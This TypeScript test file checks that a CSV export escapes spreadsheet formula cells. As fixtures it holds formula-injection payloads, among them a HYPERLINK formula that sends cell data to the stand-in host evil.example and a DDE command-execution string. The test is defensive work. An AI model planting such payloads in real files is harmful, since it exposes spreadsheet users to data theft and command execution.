/**
 * Issue 14 (points 7 and 8): formula cells in the CSV export, webhook targets that
 * resolve to local or metadata addresses, subscriptions outliving their token, and
 * tokens that do not match a principal.
 */
import { createNodes, createPublishedList } from '../support/factories';
import { createTestApp, type TestApp } from '../support/test-app';

let t: TestApp;
let consortiumId: string;

beforeAll(async () => {
  t = await createTestApp();
  consortiumId = (await t.ok<{ consortia: { id: string }[] }>('{ consortia { id } }')).consortia[0].id;
});
afterAll(() => t.close());

describe('CSV export', () => {
  it('writes cells a spreadsheet would run as formulas as text', async () => {
    await createNodes(t.ds, [
      { code: 'FX', label: 'Formula test' },
      { code: 'FX.A', parentCode: 'FX', label: '=HYPERLINK("http://evil.example/?"&A1,"click")' },
      { code: 'FX.B', parentCode: 'FX', label: '+1+cmd|\' /C calc\'!A0' },
      { code: 'FX.C', parentCode: 'FX', label: '-2+3' },
      { code: 'FX.D', parentCode: 'FX', label: '@SUM(1,2)' },
      { code: 'FX.E', parentCode: 'FX', label: '\tTAB' },
    ]);
    await createPublishedList(t.ds, 'US', 'FX US', ['FX'], [{ controlNumber: '=1+1', tier: 'STANDARD', maps: { 'FX.A': 'EXACT' } }]);
    const base = await t.listen();
    const res = await fetch(`${base}/export/concordance.csv?consortiumId=${consortiumId}&taxonomyPrefix=FX`);
    expect(res.status).toBe(200);
    const text = await res.text();
    const { parse } = await import('csv-parse/sync');
    const rows: string[][] = parse(text);
    const cells = rows.flat();
    // No cell starts with a character a spreadsheet reads as the start of a formula.
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    const byCode = Object.fromEntries(rows.map((r) => [r[0], r]));
    expect(byCode['FX.A'][1]).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"click")`);
    expect(byCode['FX.C'][1]).toBe(`'-2+3`);
    expect(byCode['FX.D'][1]).toBe(`'@SUM(1,2)`);
    expect(byCode['FX.A'][rows[0].indexOf('US')]).toBe('STANDARD: =1+1'); // not at the start: harmless
  });
});
